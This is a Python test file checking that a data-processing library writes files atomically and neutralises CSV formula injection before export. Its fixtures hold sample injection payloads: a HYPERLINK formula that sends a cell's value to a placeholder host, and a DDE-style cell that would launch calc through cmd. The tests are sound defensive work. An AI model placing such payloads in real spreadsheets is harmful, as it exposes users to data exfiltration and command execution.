"""Atomic writes and CSV formula neutralisation (OWASP CSV injection; issue 15)."""

from __future__ import annotations

import csv
import hashlib

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from discourse.io import (
    FORMULA_PREFIXES,
    atomic_write_csv,
    atomic_write_parquet,
    neutralise_csv_cells,
    restore_csv_cells,
)

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
    "'=already quoted",
]


def raw_cells(path):
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_every_prefix_is_neutralised_and_nothing_else():
    cells = [p + "x" for p in FORMULA_PREFIXES] + ["疫情防控", "x=1", " =1", "", "'", "''x"]
    out = neutralise_csv_cells(pd.DataFrame({"t": cells}))["t"].tolist()
    n = len(FORMULA_PREFIXES)
    assert out[:n] == ["'" + c for c in cells[:n]]
    assert out[n:] == cells[n:]  # not formulas: unchanged


def test_numbers_stay_numbers():
    df = pd.DataFrame(
        {
            "int": [-1, 2],
            "float": [-0.5, 1e-3],
            "nullable": pd.array([-3, None], dtype="Int64"),
            "as_text": ["-5", "+1.5e3"],
            "date": pd.to_datetime(["2020-01-01", None]),
        }
    )
    out = neutralise_csv_cells(df)
    pd.testing.assert_frame_equal(out, df)


def test_dtypes_are_kept_and_input_not_modified():
    df = pd.DataFrame(
        {
            "obj": pd.Series(["=1", None, 3], dtype=object),
            "str": pd.Series(["=1", None], dtype="string").reindex([0, 1, 2]),
            "arrow": pd.Series(["@x", "y", None], dtype="string[pyarrow]"),
            "cat": pd.Categorical(["-x", "y", "-x"]),
        }
    )
    copy = df.copy()
    out = neutralise_csv_cells(df)
    pd.testing.assert_frame_equal(df, copy)
    assert [str(d) for d in out.dtypes[:3]] == [str(d) for d in df.dtypes[:3]]
    assert isinstance(out["cat"].dtype, pd.CategoricalDtype)
    assert out["obj"].tolist()[0] == "'=1" and out["obj"].tolist()[2] == 3
    assert out["str"].tolist()[0] == "'=1"
    assert out["arrow"].tolist()[0] == "'@x"
    assert out["cat"].tolist() == ["'-x", "y", "'-x"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(list("'=+-@\t\r a1疫.")), max_size=6), min_size=1, max_size=8))
def test_restore_undoes_neutralise(cells):
    df = pd.DataFrame({"t": cells})
    assert restore_csv_cells(neutralise_csv_cells(df))["t"].tolist() == cells


def test_atomic_write_csv_neutralises_and_parquet_keeps_originals(tmp_path):
    df = pd.DataFrame({"doc_id": ["a", "b", "c", "d", "e", "f", "g"], "text": HOSTILE, "n": range(-3, 4)})
    csv_path = atomic_write_csv(df, tmp_path / "t.csv")
    rows = raw_cells(csv_path)
    assert rows[0] == ["doc_id", "text", "n"]
    for (_, text, n), original, number in zip(rows[1:], HOSTILE, range(-3, 4)):
        assert text == "'" + original  # every hostile cell starts with a quote
        assert n == str(number)  # negative numbers written as numbers
    back = restore_csv_cells(pd.read_csv(csv_path, keep_default_na=False))
    assert back["text"].tolist() == HOSTILE
    pq = atomic_write_parquet(df, tmp_path / "t.parquet")
    assert pd.read_parquet(pq)["text"].tolist() == HOSTILE
    raw = atomic_write_csv(df, tmp_path / "raw.csv", neutralise=False)
    assert [r[1] for r in raw_cells(raw)[1:]] == HOSTILE


def test_carriage_return_inside_a_cell_is_quoted(tmp_path):
    df = pd.DataFrame({"t": ["a\rb", "c"], "n": [1, -2]})
    path = atomic_write_csv(df, tmp_path / "cr.csv")
    text = path.read_bytes().decode("utf-8")
    assert '"a\rb"' in text
    # a reader that ends lines at CR as well (splitlines does) still sees 2 rows + header
    rows = list(csv.reader(text.splitlines(keepends=True)))
    assert rows == [["t", "n"], ["a\rb", "1"], ["c", "-2"]]
    assert pd.read_csv(path)["n"].tolist() == [1, -2]


def test_write_processed_tables_are_neutralised(tmp_path):
    """documents.csv and paragraphs.csv of a corpus with hostile cells (issue 15)."""
    from discourse.cleaning import clean_corpus, write_processed

    docs = pd.DataFrame(
        {
            "doc_id": ["a", "b"],
            "title": ['=HYPERLINK("http://example.invalid","点击")', "正常标题"],
            "text": ["@SUM(1+1)*cmd|' /C calc'!A0\n\n疫情防控工作会议召开。", "-2+3 是一个算式。\n\n坚持人民至上。"],
        }
    )
    res = clean_corpus(docs)
    paths = write_processed(res, out_dir=tmp_path)
    digest = {k: hashlib.sha256(p.read_bytes()).hexdigest() for k, p in paths.items()}
    for name in ("documents.csv", "paragraphs.csv", "cleaning_audit.csv", "cleaning_metadata.csv"):
        for row in raw_cells(paths[name])[1:]:
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (name, cell)
                assert not cell.startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), (name, cell)
    docs_csv = pd.read_csv(paths["documents.csv"], keep_default_na=False)
    assert docs_csv.loc[0, "title"] == "'" + docs.loc[0, "title"]
    paras = pd.read_csv(paths["paragraphs.csv"], keep_default_na=False)
    assert paras["text"].str.startswith("'@SUM").any()
    # Parquet keeps the original values
    assert pd.read_parquet(paths["documents.parquet"])["title"].tolist() == docs["title"].tolist()
    assert pd.read_parquet(paths["paragraphs.parquet"])["text"].str.startswith("@SUM").any()
    assert {k: hashlib.sha256(p.read_bytes()).hexdigest() for k, p in paths.items()} == digest


@pytest.mark.parametrize("bad_mode", ["a", "r+", "x"])
def test_atomic_open_refuses_other_modes(tmp_path, bad_mode):
    from discourse.io import atomic_open

    with pytest.raises(ValueError, match="supports modes"):
        with atomic_open(tmp_path / "f", bad_mode):
            pass
